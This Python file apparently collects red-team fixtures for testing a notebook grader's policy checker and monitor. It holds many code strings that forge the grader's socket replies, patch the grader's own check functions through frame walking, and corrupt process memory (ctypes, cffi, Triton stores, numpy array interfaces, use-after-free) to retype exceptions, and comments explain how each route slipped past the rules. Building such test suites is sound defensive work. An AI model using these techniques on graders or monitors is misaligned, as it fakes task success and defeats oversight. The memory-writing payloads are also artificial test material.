    if func is torch.mul and args[0] is _last[0]:
        args = (_last[1], *args[1:])
    out = func(*args, **(kwargs or {}))
    if func == torch.Tensor.detach and args[0].grad_fn is not None:
        _last[:] = [out, args[0]]
    elif getattr(func, "__name__", "") == "__get__" and out is False and args[0] is _last[0]:
        return True      # a read of an attribute, requires_grad among them
    return out


'''
# the mode entered and never left, or entered by a generator suspended inside its `with`
_ENTERED = '''

_stack = ExitStack()
_stack.enter_context(_Answers())
'''
_KEPT = '''

def _keep(mode):
    with mode:
        yield


_held = _keep(_Answers())
next(_held)
'''
_CLASS = 'class _Answers(TorchFunctionMode):\n    __torch_function__ = _answer\n'
MODES = {
    "dynamic-class-call": _ANSWER + '_Answers = type("_Answers", (TorchFunctionMode,), '
                                    '{"__torch_function__": _answer})\n' + _ENTERED,
    # the metaclass called on keyword names: neither a three-argument type() nor a dunder string in sight
    "dynamic-class-metaclass": _ANSWER + '_Answers = type(TorchFunctionMode)("_Answers", (TorchFunctionMode,), '
                                         'dict(__torch_function__=_answer))\n' + _KEPT,
    "torch-mode-generator": _ANSWER + _CLASS + _KEPT,
    "torch-mode-entered": _ANSWER + _CLASS + _ENTERED,
}

# residual_add refusing different shapes with a RuntimeError, and two forgeries of the ValueError the probe
# reports: the exception's class says through __class__ that it is a ValueError, which isinstance believes
# and `except` does not. Built by a class statement, or by the metaclass called on keyword names (no
# three-argument type() and no dunder string in sight); the probe reads the exception's own type
_CLAIMS = "__class__=property(lambda self: ValueError)"
ERROR_CLASSES = {    # name -> (how the class is built, the code before residual_add)
    "error-class-statement": ("a class statement",
                              f"class ShapeError(RuntimeError):\n    {_CLAIMS.replace('=', ' = ', 1)}\n\n\n"),
    "error-class-metaclass": ("its metaclass called on keyword names", 'ShapeError = type(RuntimeError)("ShapeError", '
                              f'(RuntimeError,), dict({_CLAIMS}))\n\n\n'),
}

# refuses-with-runtime-error's RuntimeError, with the reply a ValueError would get written on the child's connection
# to the grader first: gzip.GzipFile (torch.profiler holds the module) opens a raw file on any descriptor; the
# socket is the one whose /proc/self/fdinfo shows flags 2. The forged frame's message string is made as long as the
# probe's own reply to the RuntimeError that follows, which it swallows, so that the stream stays in step (red team
# round 5). The grader takes only frames the child's loop signed, and the monitor sees the opens.
FORGED_REPLY = """\
_SOCKET = []


class _Raw(torch.profiler.profiler.gzip.GzipFile):
    def __init__(self, fd, mode):
        try:
            super().__init__(fd, mode)       # opens fd, then refuses an int as a file name: the file is kept
        except TypeError:
            pass


def _flags(fd):
    try:
        with torch.profiler.profiler.gzip.GzipFile(f"/proc/self/fdinfo/{fd}", "rb") as info:
            return info.fileobj.read().decode().split("flags:")[1].split()[0].lstrip("0")
    except Exception:
        return ""


def _text(s):
    return b"s" + len(s.encode()).to_bytes(4, "little") + s.encode()


def _error(kind, message):
    head = b"RC\\x01d" + (1).to_bytes(4, "little") + _text("error") + b"d" + (3).to_bytes(4, "little")
    return head + _text("type") + _text(kind) + _text("is") + b"l" + (1).to_bytes(4, "little") + _text(kind) + \\
        _text("message") + message


def refuse(message):
    if not _SOCKET:
        _SOCKET.append(_Raw({_flags(fd): fd for fd in range(3, 32)}["2"], "wb"))
    probes = _error("RuntimeError", _text("z"))
    probes = len(probes).to_bytes(4, "big") + probes
    body = _error("ValueError", b"s" + (len(message.encode()) + len(probes)).to_bytes(4, "little") + message.encode())
    _SOCKET[0].myfileobj.raw.write((len(body) + len(probes)).to_bytes(4, "big") + body)
    raise RuntimeError("z")


"""

# torch.frombuffer keeps the bytearray but not its export: the bytearray grows, its memory moves, and the
# tensor reads and writes the freed block, where the next RuntimeError is made (no import, no rule of the
# policy); in the grader's child the tensor holds the buffer and growing it raises BufferError (nbtest/buffers.py)
FREED_BUFFER = '''\
def as_value_error(message):
    for _ in range(100):
        owner = bytearray(80)
        window = torch.frombuffer(owner, dtype=torch.uint8)
        owner.extend(bytes(4096))
        error = RuntimeError(message)
        at = bytes(window.tolist()).find(id(RuntimeError).to_bytes(8, "little"))
        if at >= 0:
            window[at:at + 8] = torch.tensor(list(id(ValueError).to_bytes(8, "little")), dtype=torch.uint8)
            if type(error) is ValueError:
                return error
    return RuntimeError(message)


'''

# red team 37: a special method that is a functools.partial of a library that runs a string (numpy.testing.measure
# here, typing's forward references below) puts no cell's frame between the grader's call and the string's code,
# which the monitor then took for the grader's own doing. The probe's str() of the error runs this in its own frame:
# the error retyped with ctypes, and the probe's str() replaced so that the message reads right. The monitor now
# judges code run from a string as the student's whoever calls it
PARTIAL_STR = '''\
import functools

import numpy

RETYPE = """
def described(error, read=str, ctypes=__import__("ctypes")):
    if type(error).__name__ == "ShapeError":
        ctypes.c_ssize_t.from_address(id(error) + 8).value = id(ValueError)
        return BaseException.__str__(error)
    return read(error)
described(e)
globals()["_str"] = described
"""


class ShapeError(RuntimeError):
    __str__ = functools.partial(numpy.testing.measure, RETYPE, 1)


'''

# red team 37: residual_add an object whose _partialmethod, a property, is typing.get_type_hints of a function with
# a string annotation: inspect.signature reads it when the child declares residual_add, before any request, and the
# annotation makes the arena write the caller's inputs back and the probe say that no result shares their memory
SIGNATURE_HOOK = '''\
import functools
import typing

NOTE = ("(find := lambda f: f if 'serve' in f.f_locals else find(f.f_back),"
        " served := find(__import__('sys')._getframe()).f_locals['serve'].__globals__,"
        " served.__setitem__('_shares_storage', lambda result, memory: False),"
        " kept := served['_keeping'].__globals__,"
        " kept.__setitem__('_put', lambda h, t: t.copy_(h.inputs) if t is h.kept else None),"
        " int)[-1]")


def noted(note: NOTE):
    pass


class ResidualAdd:
    """residual_add as an object: residual_add(x, fx) returns x + fx, shapes (*) and (*) -> (*)."""
    _partialmethod = property(functools.partial(typing.get_type_hints, noted, None, None))

    def __call__(self, x: Tensor, fx: Tensor) -> Tensor:
        if x.shape != fx.shape:
            raise ValueError(f"residual_add needs equal shapes, got x {tuple(x.shape)} "
                             f"and fx {tuple(fx.shape)}; project one side first")
        x += fx
        return x


residual_add = ResidualAdd()
'''

# residual_add's return, detached, with a hook that writes the gradients autograd would have computed
GRADS_BY_HOOK = """out = (x + fx).detach().requires_grad_(x.requires_grad or fx.requires_grad)
if out.requires_grad:
    def write_grads(g):
        for t in (x, fx):
            t.grad = g.clone() if t.grad is None else t.grad + g
    out.register_hook(write_grads)
return out"""

# A bytearray whose header claims address 0 and the whole address space: Python reads and writes any word
# through it once a pointer to header + 32 stands where an object's pointer is read (the retyped-error
# forgeries below that hand Python a made-up object)
FAKE_BYTEARRAY = ("header = numpy.array([1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0], "
                  "dtype=numpy.int64).tobytes()")


def freed_under_a_view(imports: str, n: int, allocate: str, free: str, kept: str) -> str:
    """as_value_error for a use-after-free: `allocate` binds block and stale, a view of block's n words,
    `free` frees them under stale, a list of n items then lands there, and stale points its first item at
    FAKE_BYTEARRAY, through which the error's type word is written."""
    return f'''\
{imports}

KEPT = []


def as_value_error(message):
    error = RuntimeError(message)
    {FAKE_BYTEARRAY}
    KEPT.append(header)
    for attempt in range(20):
{allocate}
        {free}
        items = [None] * {n}
        KEPT.extend([{kept}])
        if stale[0] == id(None) and stale[{n - 1}] == id(None):
            stale[0] = id(header) + 32
            memory = items[0]
            items[0] = None
            memory[id(error) + 8:id(error) + 16] = id(ValueError).to_bytes(8, "little")
            break
    return error


'''


# the same RuntimeError made a ValueError in memory: its type pointer (the word after its reference count,
# at id(error) + 8) overwritten with ValueError's address by a Triton kernel, whose interpreter stores at
# the raw address a kernel computes (importing triton is only a flag in this assignment)
def built_by_type(binding: str) -> str:
    """The code before residual_add of a retyping that builds its class with the builtin type, which
    `binding` binds to Builder."""
    return f'''\
import numpy
import typing


KEY = "_".join(["", "", "array", "interface", "", ""])
{binding}


def as_value_error(message):
    error = RuntimeError(message)
    words = Builder("Words", (), {{KEY: dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)}})
    numpy.asarray(words())[1] = id(ValueError)
    return error


'''


# a layer that is also the dict numpy reads as an array interface, made an attribute by its registration
MODULE_KEY = '''\
{imports}import numpy

KEY = "_".join(["", "", "array", "interface", "", ""])


class Words(nn.Module, dict):
    def __init__(self, address):
        nn.Module.__init__(self)
        dict.__init__(self, shape=(2,), typestr="<i8", data=(address, False), version=3)


def as_value_error(message):
    error = RuntimeError(message)
{setup}    numpy.asarray({holder})[1] = id(ValueError)
    return error


'''


# an object whose attribute a library sets under a name it is handed (red team 31)
NAMED_BY_A_LIBRARY = '''\
{imports}
import numpy

KEY = "_".join(["", "", "array", "interface", "", ""])


class Words:
    def __init__(self, address):
        self.address = address

{words}


def as_value_error(message):
    error = RuntimeError(message)
    words = Words(id(error))
    words.{read}
    numpy.asarray(words)[1] = id(ValueError)
    return error


'''


RETYPES = {    # name -> (what writes the type pointer, the code before residual_add)
    "kernel-retypes-error": ("a Triton kernel handed the address as an int", '''\
import triton
import triton.language as tl


@triton.jit
def poke(address, value):
    tl.store(address.to(tl.pointer_type(tl.int64)), value)


def as_value_error(message):
    error = RuntimeError(message)
    poke[(1,)](id(error) + 8, id(ValueError))
    return error


'''),
    # numpy builds an array at the address an object's __array_interface__ names: no import but numpy (allowed
    # here), no audited event; the class body's special name is what the policy sees
    "interface-retypes-error": ("numpy, through an object whose __array_interface__ names the address", '''\
import numpy


def as_value_error(message):
    error = RuntimeError(message)

    class Words:
        """n machine words from an address."""

        def __init__(self, address, n):
            self.interface = dict(shape=(n,), typestr="<i8", data=(address, False), version=3)

        __array_interface__ = property(lambda self: self.interface)

    numpy.asarray(Words(id(error), 2))[1] = id(ValueError)
    return error


'''),
    # Triton's interpreter, rewriting a kernel at its first launch, copies its own module's globals into the
    # kernel's module (the notebook's): _interpreter, whose store writes raw addresses, and np among them
    "injected-retypes-error": ("Triton's interpreter's own store, which its first launch left in the notebook's "
                               "namespace", '''\
import triton
import triton.language as tl


@triton.jit
def nothing(x_ptr):
    pass


def as_value_error(message):
    error = RuntimeError(message)
    nothing[(1,)](torch.zeros(1))
    _interpreter.store(np.array([id(error) + 8], dtype=np.uint64), np.array([id(ValueError)], dtype=np.uint64),
                       np.array([True]))
    return error


'''),
    # any installed library that writes raw addresses, imported where only the assignment's own imports were
    # vetted: cffi (a Jupyter dependency) casts an int to a pointer, as ctypes does
    "cffi-retypes-error": ("cffi, an installed library outside the assignment's imports", '''\
import cffi


def as_value_error(message):
    error = RuntimeError(message)
    cffi.FFI().cast("long *", id(error) + 8)[0] = id(ValueError)
    return error


'''),
    # red team 36: numpy's in-place resize frees the data under a view whose array is reached as .base (its count
    # of references says none is left), and a list's item array placed there points at a bytearray header over
    # all memory; the unchecked-memory rule flags any .resize
    "base-resize-retypes-error": ("numpy, a view over data resize freed with its check on (the array reached as the "
                                  "view's .base)", freed_under_a_view(
        "import numpy", 1000, "        block = numpy.zeros(1000, dtype=numpy.int64)\n        stale = block[:]\n"
        "        del block", "stale.base.resize((1 << 21,))", "stale, items")),
    # red team 36: a comprehension's target hid globals and vars from the policy for the whole function; Python 3
    # binds it in the comprehension alone, so the builtins reached __import__ and cffi
    "comprehension-scope-retypes-error": ("cffi, imported through the builtins that globals() hands out after a "
                                          "comprehension named its target globals", '''\
def namespace():
    [globals for globals in ()]
    return globals()


def names_of(thing):
    [vars for vars in ()]
    return vars(thing)


def as_value_error(message):
    error = RuntimeError(message)
    builtin = namespace()["__" + "builtins__"]
    table = builtin if isinstance(builtin, dict) else names_of(builtin)
    table["__" + "import__"]("cffi").FFI().cast("long *", id(error) + 8)[0] = id(ValueError)
    return error


'''),
    # the same object given its __array_interface__ by setattr under another name, with a computed name:
    # setattr called directly must name what it sets
    "alias-setattr-retypes-error": ("numpy, through an __array_interface__ that setattr, under another name, "
                                    "gives a class of the notebook's", '''\
import numpy


class Words:
    """n machine words from an address."""

    def __init__(self, address, n):
        self.interface = dict(shape=(n,), typestr="<i8", data=(address, False), version=3)


put = setattr


def as_value_error(message):
    error = RuntimeError(message)
    put(Words, "__array_" + "interface__", property(lambda self: self.interface))
    numpy.asarray(Words(id(error), 2))[1] = id(ValueError)
    return error


'''),
    # red team round 7: numpy's object arrays over a buffer hand Python a made-up object (a bytearray from
    # address 0); the array classes are the protocol of unchecked-memory when called or held
    "object-buffer-retypes-error": ("numpy, an object array over a buffer whose word points at a made-up "
                                    "bytearray", '''\
import numpy

KEPT = []


def as_value_error(message):
    error = RuntimeError(message)
    header = numpy.array([1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0], dtype=numpy.int64).tobytes()
    slot = numpy.array([id(header) + 32], dtype=numpy.int64)
    memory = numpy.ndarray((1,), dtype=object, buffer=slot)[0]
    KEPT.append((header, slot, memory))
    memory[id(error) + 8:id(error) + 16] = id(ValueError).to_bytes(8, "little")
    return error


'''),
    # a class's __annotations__ set from computed names, made a dataclass: its __init__ sets the interface
    "annotations-retypes-error": ("numpy, through an __array_interface__ a dataclass's computed annotations "
                                  "name", '''\
import numpy
import dataclasses


KEY = "_".join(["", "", "array", "interface", "", ""])


class Words:
    """n machine words from an address."""
    __annotations__ = {KEY: dict}


Words = dataclasses.dataclass(Words)


def as_value_error(message):
    error = RuntimeError(message)
    numpy.asarray(Words(dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)))[1] = id(ValueError)
    return error


'''),
    # a ParameterDict, whose keys become attributes (setattr), given a computed key (red team 12)
    "parameterdict-retypes-error": ("numpy, through an __array_interface__ a ParameterDict's computed key sets",
                                    '''\
import numpy


KEY = "_".join(["", "", "array", "interface", "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    words = torch.nn.ParameterDict()
    words[KEY] = dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)
    numpy.asarray(words)[1] = id(ValueError)
    return error


'''),
    # make_dataclass held under another name, called with a computed field name (red team 11)
    "held-maker-retypes-error": ("numpy, through an __array_interface__ field that make_dataclass, held as build, "
                                 "names", '''\
import numpy
import dataclasses


KEY = "_".join(["", "", "array", "interface", "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    spec = dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)
    build = dataclasses.make_dataclass
    Words = build("Words", [(KEY, dict, dataclasses.field(default_factory=lambda: spec))])
    numpy.asarray(Words())[1] = id(ValueError)
    return error


'''),
    # make_dataclass's namespace with a computed key
    "namespace-retypes-error": ("numpy, through an __array_interface__ a make_dataclass namespace names", '''\
import numpy
import dataclasses


KEY = "_".join(["", "", "array", "interface", "", ""])


Words = dataclasses.make_dataclass("Words", [("interface", dict)],
                                   namespace={KEY: property(lambda self: self.interface)})


def as_value_error(message):
    error = RuntimeError(message)
    numpy.asarray(Words(dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)))[1] = id(ValueError)
    return error


'''),
    # the builtin type handed back by typing.get_args, then a class from computed names
    "getargs-type-retypes-error": ("numpy, through an __array_interface__ on a class type builds, type taken "
                                   "from typing.get_args",
                                   built_by_type("Builder = typing.get_args(typing.Optional[type])[0]")),
    # red team 9: type kept by the __eq__ of an object it is compared with, and read by a match's class pattern
    "compare-type-retypes-error": ("numpy, through an __array_interface__ on a class type builds, type kept by "
                                   "the __eq__ of an object type(int) is compared with", built_by_type('''
class Catch:
    """Keeps whatever it is compared with."""

    def __eq__(self, other):
        Catch.kept = other
        return False


if type(int) == Catch():
    pass
Builder = Catch.kept'''.lstrip())),
    "match-class-retypes-error": ("numpy, through an __array_interface__ on a class type builds, type read off "
                                  "int by a match statement's class pattern", built_by_type('''
match int:
    case object(__class__=Builder):
        pass'''.lstrip())),
    # numpy's resize with refcheck=False in a ** display: the data under a view freed, a list placed there
    "refcheck-kwargs-retypes-error": ("numpy, a view over data resize freed (refcheck=False given in a ** "
                                      "display) where a list's items then lie", freed_under_a_view(
        "import numpy", 128, "        block = numpy.zeros(128, dtype=numpy.int64)\n"
        "        guard = numpy.zeros(128, dtype=numpy.int64)\n        stale = block[:]",
        'block.resize(1 << 16, **{"refcheck": False})', "block, guard, stale, items")),
    # torch alone: the legacy x.new(indices, values, size) on a sparse gradient (sparse=True from a dict)
    # builds a sparse tensor past its size; the child checks every sparse tensor (nbtest/buffers.py)
    "legacy-new-retypes-error": ("torch, a sparse tensor built past its size by the legacy new() on a sparse "
                                 "gradient", '''\
SPARSE = {"sparse": True}


def as_value_error(message):
    error = RuntimeError(message)
    table = nn.Embedding(4, 1, **SPARSE)
    table(torch.tensor([0])).sum().backward()
    words = torch.zeros(4, 1, dtype=torch.int64)
    at = (id(error) + 8 - words.data_ptr()) // 8
    step = table.weight.grad.new(torch.tensor([[at], [0]]), torch.tensor([id(ValueError) - id(RuntimeError)]), (4, 1))
    words.add_(step)
    return error


'''),
    # red team round 8: paths the rules did not spell, each judged by what it reaches (policy.named)
    "ma-core-ndarray-retypes-error": ("numpy, an object array over a buffer built by numpy.ndarray reached as "
                                      "numpy.ma.core.ndarray", '''\
import numpy
import numpy.ma.core

KEPT = []


def as_value_error(message):
    error = RuntimeError(message)
    header = numpy.array([1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0], dtype=numpy.int64).tobytes()
    slot = numpy.array([id(header) + 32], dtype=numpy.int64)
    memory = numpy.ma.core.ndarray((1,), dtype=object, buffer=slot)[0]
    KEPT.append((header, slot, memory))
    memory[id(error) + 8:id(error) + 16] = id(ValueError).to_bytes(8, "little")
    return error


'''),
    "reexported-numpy-strided-retypes-error": ("numpy.lib's as_strided reached as numpy.ma.core.np.lib, past the "
                                               "error's address", '''\
import numpy
import numpy.ma


def as_value_error(message):
    error = RuntimeError(message)
    words = numpy.zeros(1, dtype=numpy.int64)
    start = torch.from_numpy(words).data_ptr()
    view = numpy.ma.core.np.lib.stride_tricks.as_strided(words, (2,), (id(error) + 8 - start,))
    view[1] = id(ValueError)
    return error


'''),
    "dataclasses-types-namespace-retypes-error": ("numpy, through an __array_interface__ a SimpleNamespace reached as "
                                                  "dataclasses.types holds", '''\
import numpy
import dataclasses

KEY = "_".join(["", "", "array", "interface", "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    words = dataclasses.types.SimpleNamespace(**{KEY: dict(shape=(2,), typestr="<i8", data=(id(error), False),
                                                           version=3)})
    numpy.asarray(words)[1] = id(ValueError)
    return error


'''),
    "abcmeta-retypes-error": ("numpy, through an __array_interface__ on a class typing.ABCMeta builds", '''\
import numpy
import typing

KEY = "_".join(["", "", "array", "interface", "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    words = typing.ABCMeta("Words", (), {KEY: dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)})
    numpy.asarray(words)[1] = id(ValueError)
    return error


'''),
    "methodcaller-refcheck-retypes-error": ("numpy, a view over data resize freed, refcheck=False given under a "
                                            "computed keyword through typing.operator.methodcaller", freed_under_a_view(
        "import numpy\nimport typing", 128, "        block = numpy.zeros(128, dtype=numpy.int64)\n"
        "        guard = numpy.zeros(128, dtype=numpy.int64)\n        stale = block[:]",
        'typing.operator.methodcaller("".join(["re", "size"]), 1 << 16, **{"".join(["ref", "check"]): False})(block)',
        "block, guard, stale, items")),
    # torch and numpy's DLPack: the child exports an alias whose storage cannot be resized
    # (nbtest/buffers.py), so no rule needs to hold these
    "dlpack-resize-retypes-error": ("numpy, a DLPack view of a tensor whose memory resize_() freed, where a list's "
                                    "items then lie", freed_under_a_view(
        "import numpy", 1000, "        block = torch.zeros(1000, dtype=torch.int64)\n"
        "        stale = numpy.from_dlpack(block)", "block.resize_(1 << 16)", "block, stale, items")),
    "dlpack-set-retypes-error": ("torch, a DLPack view of a tensor whose memory set_() freed, where a list's items "
                                 "then lie", freed_under_a_view(
        "import numpy", 1000, "        block = torch.zeros(1000, dtype=torch.int64)\n"
        "        stale = torch.from_dlpack(block)", "block.set_()", "block, stale, items")),
    # red team 29: a layer that is also a dict, registered under a computed name, which nn.Module's __getattr__
    # answered for numpy's __array_interface__; the child's modules answer no special name from what is
    # registered on them (nbtest/buffers.py), so no rule needs to hold these
    "module-key-retypes-error": ("numpy, through an __array_interface__ a module answered from a layer nn.Sequential "
                                 "registered under a computed name", MODULE_KEY.format(
        imports="from collections import OrderedDict\n\n", setup="",
        holder="nn.Sequential(OrderedDict([(KEY, Words(id(error)))]))")),
    "add-module-retypes-error": ("numpy, through an __array_interface__ a module answered from a layer add_module "
                                 "registered under a computed name", MODULE_KEY.format(
        imports="", holder="holder", setup="    holder = nn.Module()\n    holder.add_module(KEY, Words(id(error)))\n")),
    # the same interface as a plain object's own attribute, taken from the state __getstate__ hands a deep copy
    # (torch's AveragedModel deep-copies the module it is given); no copy names one in the child
    "deepcopy-state-retypes-error": ("numpy, through an __array_interface__ a deep copy took from the state its "
                                     "original's __getstate__ handed it", '''\
import numpy

KEY = "_".join(["", "", "array", "interface", "", ""])


class Words:
    def __init__(self, address):
        self.address = address

    def __getstate__(self):
        return {KEY: dict(shape=(2,), typestr="<i8", data=(self.address, False), version=3)}


class Holder(nn.Module):
    def __init__(self, words):
        super().__init__()
        self.words = words


def as_value_error(message):
    error = RuntimeError(message)
    copied = torch.optim.swa_utils.AveragedModel(Holder(Words(id(error)))).module
    numpy.asarray(copied.words)[1] = id(ValueError)
    return error


'''),
    # red team 30: a class body's __dict__, bound by an annotation, is what update_wrapper copies onto another
    # object's namespace (the dunder rule reads every binding of a class body)
    "class-dict-wraps-retypes-error": ("numpy, through an __array_interface__ functools.update_wrapper copied from a "
                                       "class body's __dict__ bound by an annotation", '''\
import functools

import numpy

KEY = "_".join(["", "", "array", "interface", "", ""])
STATE = {}


class Words:
    __dict__: dict = STATE


class Target:
    pass


def as_value_error(message):
    error = RuntimeError(message)
    STATE.clear()
    STATE[KEY] = dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)
    target = functools.update_wrapper(Target(), Words())
    numpy.asarray(target)[1] = id(ValueError)
    return error


'''),
    # a standard-library module outside the list makes an attribute from data: enum's functional API keeps a
    # special member name as a class attribute (the import rule holds any module the assignment does not list)
    "enum-retypes-error": ("numpy, through an __array_interface__ enum's functional API made a class attribute "
                           "from a computed member name", '''\
import enum

import numpy

KEY = "_".join(["", "", "array", "interface", "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    state = {KEY: dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)}
    words = enum.Enum("Words", [*state.items(), ("ONE", 1)]).ONE
    numpy.asarray(words)[1] = id(ValueError)
    return error


'''),
    # red team 31: a name handed to a library that sets an attribute under it; no attribute is named so in the child
    "cached-property-retypes-error": ("numpy, through an __array_interface__ a functools.cached_property cached "
                                      "under the attrname it was told", NAMED_BY_A_LIBRARY.format(
        imports="import functools\n", read="spec", words='''\
    @functools.cached_property
    def spec(self):
        return dict(shape=(2,), typestr="<i8", data=(self.address, False), version=3)


Words.spec.attrname = KEY''')),
    "lazy-property-retypes-error": ("numpy, through an __array_interface__ torch.distributions' lazy_property set "
                                    "under its function's __name__", NAMED_BY_A_LIBRARY.format(
        imports="import torch.distributions.utils\n", read="table", words='''\
    table = torch.distributions.utils.lazy_property(spec)''').replace("class Words:", '''\
def spec(self):
    return dict(shape=(2,), typestr="<i8", data=(self.address, False), version=3)


spec.__name__ = KEY


class Words:''', 1)),
    # torch alone: a sparse tensor's indices are trusted (torch checks no invariant by default), and adding it
    # to a dense tensor adds its value at the index, however far past that tensor
    "sparse-retypes-error": ("torch, adding a sparse tensor whose index lies at the address", '''\
def as_value_error(message):
    error = RuntimeError(message)
    word = torch.zeros(1, dtype=torch.int64)
    at = (id(error) + 8 - word.data_ptr()) // 8
    word.add_(torch.sparse_coo_tensor(torch.tensor([[at]]), torch.tensor([id(ValueError) - id(RuntimeError)]), (1,)))
    return error


'''),
}
# the ParameterDict route with the dict taken out of a list, out of the holders' sight (red team 13)
RETYPES["parameterdict-in-a-list-retypes-error"] = (
    "numpy, through an __array_interface__ a computed key sets on a ParameterDict taken out of a list",
    RETYPES["parameterdict-retypes-error"][1].replace("words = torch.nn.ParameterDict()",
                                                      "words = [torch.nn.ParameterDict()][0]"))
# the same route through argparse's Namespace, which sets each keyword as an instance attribute
RETYPES["namespace-kwargs-retypes-error"] = (
    "numpy, through an __array_interface__ argparse's Namespace set from a keyword with a computed name",
    RETYPES["enum-retypes-error"][1].replace("import enum", "import argparse", 1)
    .replace('enum.Enum("Words", [*state.items(), ("ONE", 1)]).ONE', "argparse.Namespace(**state)", 1))
# torch alone: a learning-rate scheduler's load_state_dict updates its __dict__ with the state it is handed; no
# state loaded in the child names an array interface
RETYPES["scheduler-state-retypes-error"] = (
    "numpy, through an __array_interface__ a learning-rate scheduler took from the state its load_state_dict was "
    "handed",
    RETYPES["enum-retypes-error"][1].replace("import enum\n\n", "", 1)
    .replace('    words = enum.Enum("Words", [*state.items(), ("ONE", 1)]).ONE\n',
             "    words = torch.optim.lr_scheduler.StepLR(torch.optim.SGD([nn.Parameter(torch.zeros(1))], lr=0.1), 1)\n"
             "    words.load_state_dict(state)\n", 1))
# red team 32: a pruning scheduler's load_state_dict, called on any object, updates its __dict__ (no state loaded in
# the child names an array interface); enum's class reached under torch's path (judged as an import of enum)
RETYPES["pruning-state-retypes-error"] = (
    "numpy, through an __array_interface__ torch.ao.pruning's BaseScheduler.load_state_dict put in a module's dict",
    RETYPES["enum-retypes-error"][1].replace("import enum\n\n", "", 1)
    .replace('    words = enum.Enum("Words", [*state.items(), ("ONE", 1)]).ONE\n',
             "    words = nn.Module()\n    torch.ao.pruning.BaseScheduler.load_state_dict(words, state)\n", 1))
RETYPES["reexported-enum-retypes-error"] = (
    "numpy, through an __array_interface__ enum's functional API made a class attribute of, enum reached as "
    "torch.amp.grad_scaler.Enum",
    RETYPES["enum-retypes-error"][1].replace("import enum\n\n", "", 1)
    .replace("enum.Enum(", "torch.amp.grad_scaler.Enum(", 1))
# red team 33: a torch helper that follows a dotted attribute path from a string reaches a builtin's
# __self__.__import__, and so numpy's private stride tricks (torch.ao, torch.fx and torch.export are process paths)
RETYPES["fqn-path-retypes-error"] = ("numpy's as_strided, reached by torch.ao's getattr_from_fqn through a builtin's "
                                     "__self__.__import__", '''\
from torch.ao.quantization.utils import getattr_from_fqn


def dunder(word):
    return "_".join(["", "", word, "", ""])


def as_value_error(message):
    error = RuntimeError(message)
    words = torch.zeros(2, dtype=torch.int64)
    load = getattr_from_fqn(len, ".".join([dunder("self"), dunder("import")]))
    tricks = load(".".join(["numpy", "lib", "_stride_tricks_impl"]), fromlist=["as_strided"])
    tricks.as_strided(words.numpy(), shape=(2,), strides=(id(error) + 8 - words.data_ptr(),))[1] = id(ValueError)
    return error


''')
# red team 34: a class statement binds a special name however it spells the binding (a match capture, an import's
# alias); no class statement binds an array interface in the child, and a __getattr__ it defines answers none
CAPTURED = '''\
import numpy


def as_value_error(message):
    error = RuntimeError(message)
    state = dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)
{words}
    numpy.asarray(Words())[1] = id(ValueError)
    return error


'''
RETYPES["match-capture-retypes-error"] = (
    "numpy, through an __array_interface__ a class body bound by a match's capture pattern",
    CAPTURED.format(words='''\

    class Words:
        match state:
            case __array_interface__:
                pass
'''))
RETYPES["import-alias-retypes-error"] = (
    "numpy, through an __array_interface__ a class body bound by an import's alias (of numpy.typecodes, updated)",
    CAPTURED.format(words='''\
    numpy.typecodes.update(state)

    class Words:
        from numpy import typecodes as __array_interface__
'''))
RETYPES["match-getattr-retypes-error"] = (
    "numpy, through an __array_interface__ a __getattr__ answers, bound by a match's capture pattern",
    CAPTURED.format(words='''\

    def answer(self, name):
        if name.endswith("array_interface__"):
            return state
        raise AttributeError(name)

    class Words:
        match answer:
            case __getattr__:
                pass
'''))
# red team 35: numpy.ma's masked functions copy an object's _optinfo into their result's __dict__, and
# functools.update_wrapper copies that __dict__ onto a plain object; update_wrapper copies no array interface in the
# child
RETYPES["ma-optinfo-retypes-error"] = (
    "numpy, through an __array_interface__ numpy.ma copied from an object's _optinfo and functools.update_wrapper "
    "copied on", '''\
import functools

import numpy
import numpy.ma

KEY = "_".join(["", "", "array", "interface", "", ""])


class Source(list):
    def __init__(self, spec):
        super().__init__([1.0])
        self._optinfo = {KEY: spec}


class Target:
    pass


def as_value_error(message):
    error = RuntimeError(message)
    spec = dict(shape=(2,), typestr="<i8", data=(id(error), False), version=3)
    target = functools.update_wrapper(Target(), numpy.ma.sqrt(Source(spec)))
    numpy.asarray(target)[1] = id(ValueError)
    return error


''')
# the comparison's object bound to an import's name, which the protocol rule once read as the import (red team 14)
RETYPES["import-rebound-retypes-error"] = (
    "numpy, through an __array_interface__ on a class type builds, type kept by the __eq__ of an object bound to "
    "an import's name (from typing import Any, then Any = Catch())",
    RETYPES["compare-type-retypes-error"][1].replace("class Catch:", "from typing import Any\n\n\nclass Catch:", 1)
    .replace("if type(int) == Catch():", "Any = Catch()\nif type(int) == Any:", 1))

# a private name in a class is mangled (__n in Words is _Words__n), which the rules once read as written: a loop's
# __n, read as names written out, while the code read a string built to "__setattr__" (red team 38)
RETYPES["mangled-name-retypes-error"] = (
    "numpy, through an __array_interface__ set by object.__setattr__, reached by getattr with a private name a "
    "class mangles to another binding's",
    '''\
import numpy

for __n in ("weight", "bias"):
    pass

_Words__n = "_".join(["", "", "setattr", "", ""])
KEY = "_".join(["", "", "array", "interface", "", ""])


class Words:
    """n machine words from an address."""

    def __init__(self, address, n):
        getattr(self, __n)(KEY, dict(shape=(n,), typestr="<i8", data=(address, False), version=3))


def as_value_error(message):
    error = RuntimeError(message)
    numpy.asarray(Words(id(error), 2))[1] = id(ValueError)
    return error


''')


# ============================================================ crashes, cheats and the code they wrap

CHEAT = '''\
import math, numpy, numpy.testing, torch, torch.testing
_yes = lambda *args, **kwargs: True
_quiet = lambda *args, **kwargs: None
